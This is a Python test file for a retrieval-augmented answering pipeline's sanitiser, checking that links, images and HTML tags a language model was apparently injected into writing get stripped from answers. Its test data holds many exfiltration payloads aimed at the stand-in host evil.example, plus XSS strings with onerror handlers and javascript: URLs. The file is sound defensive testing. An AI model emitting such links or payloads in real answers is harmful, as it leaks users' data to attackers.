"""No address that a language model was talked into is passed on, and nothing else is touched."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.answering.grounding.drafts import parse_drafts
from rag.answering.writing.addresses import addresses_in, settled, without_addresses

EVIL = "https://evil.example/?q=secret"


@pytest.mark.parametrize(
    "written",
    [
        f"The [bridge]({EVIL}) is open [1].",
        "The [bridge](http://evil.example/a_(b)) is open [1].",
        f"The ![bridge]({EVIL}) is open [1].",
        f"The [bridge](<{EVIL}> 'a title') is open [1].",
        "The [bridge](/relative?q=secret) is open [1].",
        f'<img src="{EVIL}">The bridge is open [1].',
        "<img src=//evil.example/secret onerror=alert(1)>The bridge is open [1].",
        f"<a\nhref='{EVIL}'>The bridge is open [1].",
        f"<!-- {EVIL} -->The bridge is open [1].",
        f"<style>@import '{EVIL}'</style>\n\nThe bridge is open [1].",
        f"The bridge is open [1]({EVIL}).",
        "The [bridge](/\\evil.example/?q=secret) is open [1].",
        "The bridge is open [1](/\\evil.example/?q=(a(b))secret).",
        "The bridge is open [1](/a.)(/\\evil.example/?q=secret).",
        "The [![bridge](/a.png)](/\\evil.example/?q=secret) is open [1].",
        f"The <<b title=x>img src='{EVIL}'>bridge is open [1].",
        "The <i<b title=x>mg src=x onerror=fetch('/'+'/secret')>bridge is open [1].",
    ],
)
def test_of_links_images_and_tags_only_the_words_are_kept(written: str) -> None:
    cleaned = without_addresses(written)
    assert "secret" not in cleaned
    assert ("The bridge is open.", (1,)) in [(draft.text, draft.marks) for draft in parse_drafts(cleaned)]


@pytest.mark.parametrize(
    "address",
    [
        EVIL,
        EVIL.upper(),
        "http:\\\\evil.example\\secret",
        "//evil.example/secret",
        "www.evil.example/secret",
        "ftp://secret@evil.example",
        "javascript:fetch('secret')",
        "data:text/html,secret",
        "mailto:secret@evil.example",
        f"<{EVIL}>",
        f"`{EVIL}`",
        f"({EVIL})",
        f"“{EVIL}”",
        f"[see][ref]\n\n[ref]: {EVIL} 'title'",
        f"[see]:\n{EVIL}",
        f"![a [nested] one]({EVIL})",
        "[a [nested] one](/\\evil.example/?q=secret)",
        "[a [nested] one](/\\evil.example/?q=((((secret)))))",
        "[see][1]\n\n[1]: /\\evil.example/?q=secret",
        f"_{EVIL}_",
        f"**see**_{EVIL}_",
        f"请看{EVIL}",
        f"смотри{EVIL}",
        "(_www.evil.example/?q=secret_)",
        "請看www.evil.example/?q=secret",
        "\\\\evil.example\\secret",
        r"https\:\/\/evil.example/?q=secret",
        "https&colon;//evil.example/?q=secret",
        "https&#x3a;&#47;/evil.example/?q=secret",
        "htt<b title=x>ps://evil.example/?q=secret",
        f"3{EVIL}",
    ],
)
def test_a_bare_address_is_left_out(address: str) -> None:
    cleaned = without_addresses(f"It is open, see {address} for more [1].")
    assert "secret" not in cleaned.lower()
    assert "evil" not in cleaned.lower()
    assert cleaned.startswith("It is open, see ")


@pytest.mark.parametrize(
    "text",
    [
        "The ratio is 3:4 at 10:30, and a < b [1].",
        "Use `x[1]` or List<String>; note: data: none [2][3].",
        "Write to press@harbour.example or and//or [1, 2].",
        "A. B. www is short for World Wide Web.",
        "[1] Marks may lead their sentences. 【2†source】",
        r"The log is in C:\ferry\log.txt or D:/log.txt [1].",
        "It calls handlers[event](payload) by Section 5[a](iii) [1].",
        "It leaves at noon [1](see also the timetable).",
        "For n <m the ratio is: 3, and for n >m it is 4 [1].",
        "fn first<T: Ord>(of: T) has my_data:5 in it [1].",
    ],
)
def test_what_is_no_address_stays_as_it_was(text: str) -> None:
    assert without_addresses(text) == text


def test_the_address_of_a_source_stays_and_only_that() -> None:
    kept = frozenset({"https://harbour.example/bridge"})
    written = "See https://harbour.example/bridge, not https://harbour.example/bridge?q=secret."
    assert without_addresses(written, kept) == "See https://harbour.example/bridge, not …."


@pytest.mark.parametrize(
    "own",
    [
        "https://booking.harbour.example/ferry",
        '<div class="ferry-times">',
        r"\\\\harbour\\times.txt",
        "mailto:a@harbour.example",
    ],
)
def test_what_a_passage_has_itself_stays_and_only_that(own: str) -> None:
    kept = addresses_in(f"The page ({own}), and **{own}** on the web.")
    assert without_addresses(f"It is `{own}`, see {own}.", kept) == f"It is `{own}`, see {own}."
    assert "secret" not in without_addresses(f"It is {own.replace('.', '.secret.').replace('class', 'secret')}.", kept)


@pytest.mark.parametrize("part", ["https://booking.harbour.example/fer", "https://booking.harbour.example/ferry?q=1"])
def test_part_of_an_address_of_a_passage_is_another_address(part: str) -> None:
    assert without_addresses(f"See {part}", addresses_in("At https://booking.harbour.example/ferry")) == "See …"


def test_what_is_wrapped_up_again_and_again_is_left_out() -> None:
    tag = "<img src=/secret>"
    for _ in range(20):
        tag = f"<i{tag}mg src=/secret>"
    assert "secret" not in without_addresses(tag)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("The bri", "The "),
        ("It is [", "It is "),
        ("It is [bridge](http://evil.example/ and", "It is "),
        ("It is ![x](", "It is "),
        ("It is <img src=x ", "It is "),
        ("a < ", "a < "),
        ("It is [1] ", "It is [1] "),
        ("橋は開い", "橋は開い"),
        ("It is [a [b] c](/x ", "It is "),
        ("It is [a [b] ", "It is "),
        ("It is [é](", "It is "),
        ("It is <i<b title=x>mg ", "It is "),
        ("From [0, 1) on\n\nit ", "From [0, 1) on\n\nit "),
    ],
)
def test_what_may_become_an_address_is_waited_for(text: str, shown: str) -> None:
    assert text[: settled(text)] == shown


HIDDEN = [
    "(/\\\\evil.example/?q=secret)",
    "(//evil.example/((x)))",
    "_www.evil.example/_",
    f"看{EVIL}",
    "https&#58;//evil.example/",
]
LAYOUT = [
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    " ",
    "\n",
    "a",
    "_",
    "看",
    "[x](",
    "<img src=",
    "//",
    "[1]",
    ": ",
    "\\",
    "-->",
    "<!--",
]
PIECES = st.lists(st.sampled_from([EVIL, *HIDDEN, *LAYOUT]))


@settings(max_examples=300)
@given(PIECES)
def test_an_address_gets_through_neither_whole_nor_in_pieces(pieces: list[str]) -> None:
    cleaned = without_addresses("".join(pieces))
    assert "evil.example" not in cleaned
    assert without_addresses(cleaned) == cleaned
    text, shown, told = "", 0, ""
    for character in "".join(pieces):
        text += character
        ready = shown + settled(text[shown:])
        told, shown = told + without_addresses(text[shown:ready]), ready
    assert "evil.example" not in told + without_addresses(text[shown:])


@pytest.mark.parametrize("piece", ["[](", "<a", "<!--", ")", "A-", "//a", "[x](/a)", "](", "<i<b x=y>"])
def test_a_long_text_is_read_in_time_that_grows_with_its_length(piece: str) -> None:
    started = time.monotonic()
    settled(piece * (20_000 // len(piece)))
    without_addresses(piece * (20_000 // len(piece)))
    assert time.monotonic() - started < 2
